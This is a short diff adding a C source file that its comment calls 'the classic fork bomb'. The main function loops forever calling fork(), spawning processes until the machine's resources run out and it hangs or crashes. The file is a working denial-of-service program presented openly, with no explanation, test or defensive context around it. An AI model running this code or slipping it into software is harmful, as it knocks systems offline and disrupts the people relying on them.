@@ -1,0 +1,6 @@
+// The classic fork bomb.
+#include <unistd.h>
+
+int main(void) {
+  for (;;) fork();
+}
